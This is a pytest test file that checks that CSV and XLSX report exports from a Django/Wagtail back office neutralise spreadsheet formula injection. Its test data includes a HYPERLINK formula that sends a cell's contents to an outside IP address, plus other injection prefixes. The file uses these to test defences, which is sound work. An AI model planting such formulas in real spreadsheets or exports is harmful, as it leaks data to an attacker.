"""Exports of the back office hold text, never a formula."""

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from portal.backoffice.spreadsheets import neutralise_formula
from portal.people.roles import Role
from tests.factories import UserFactory, make_case

FORMULA = '=HYPERLINK("http://198.51.100.7/?x="&A1,"点我")'


@pytest.mark.parametrize(
    ("value", "in_csv", "in_xlsx"),
    [
        (FORMULA, f"'{FORMULA}", FORMULA),
        ("+1", "'+1", "+1"),
        ("-1", "'-1", "-1"),
        ("@SUM(1)", "'@SUM(1)", "@SUM(1)"),
        ("＝1", "'＝1", "＝1"),
        (" \t=1", "' \t=1", " \t=1"),
        ("\x00=1", "'=1", "=1"),
        ("漏销一笔电费", "漏销一笔电费", "漏销一笔电费"),
        (-1, -1, -1),
        (None, None, None),
    ],
)
def test_a_text_that_looks_like_a_formula_stays_a_text(
    value: Any, in_csv: Any, in_xlsx: Any
) -> None:
    assert neutralise_formula(value, SpreadsheetExportMixin.FORMAT_CSV) == in_csv
    assert neutralise_formula(value, SpreadsheetExportMixin.FORMAT_XLSX) == in_xlsx


def exported(address: str, export_format: str) -> list[str]:
    client = Client()
    client.force_login(
        UserFactory(role=Role.ADMINISTRATOR), backend="django.contrib.auth.backends.ModelBackend"
    )
    response = client.get(f"{address}?export={export_format}")
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    if export_format == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    return [str(cell.value) for cell in cells]


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["site_history", "aging_pages", "locked_pages"])
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_every_report_is_exported_as_text(name: str, export_format: str) -> None:
    case = make_case(FORMULA, slug="gongshi", locked=True)
    case.save_revision(log_action="wagtail.create").publish()
    cells = exported(reverse(f"wagtailadmin_reports:{name}"), export_format)
    titles = [cell for cell in cells if "HYPERLINK" in cell]
    assert titles
    expected = f"'{FORMULA}" if export_format == "csv" else FORMULA
    assert set(titles) == {expected}
